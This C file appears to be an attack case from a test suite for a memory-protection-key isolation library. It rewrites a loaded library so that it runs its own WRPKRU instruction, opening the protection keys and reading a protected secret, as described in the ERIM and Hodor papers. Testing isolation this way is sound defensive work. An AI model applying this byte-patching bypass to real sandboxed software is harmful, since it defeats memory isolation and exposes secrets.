/* Tries: to open its keys by an instruction of its own
 * From: ERIM (Vahldiek-Oberwagner et al., USENIX Security 2019); Hodor (Hedayati et al., USENIX
 *   ATC 2019)
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, keys, load */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    /* The marker, and room for what takes its place. */
    __asm__ volatile("xor %%eax, %%eax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\t"
                     "mov $0x4b524f11, %%r10d"
                     :
                     :
                     : "rax", "rcx", "rdx", "r10", "memory");
    take(at, at->secret_global);
    return 0;
}
#endif

#ifdef ATTACK_HOST
/* A copy of the library in which there is a WRPKRU. */
HOST(run)
{
    static const uint8_t marker[] = {0x41, 0xba, 0x11, 0x4f, 0x52, 0x4b},
                         bytes[] = {0x90, 0x90, 0x90, 0x0f, 0x01, 0xef};
    size_t size = 0;
    unsigned char *file = host_read_library(host, &size);
    if (host->places[PLACE_gate_start])
        for (size_t i = 0; i + 64 < size; i++)
            if (!memcmp(file + i, marker, sizeof(marker)))
                memcpy(file + i, bytes, sizeof(bytes));
    enum og_error error = host_open_changed(host, file, size);
    free(file);
    return error ? error : host_call_other(host, 0);
}
#endif
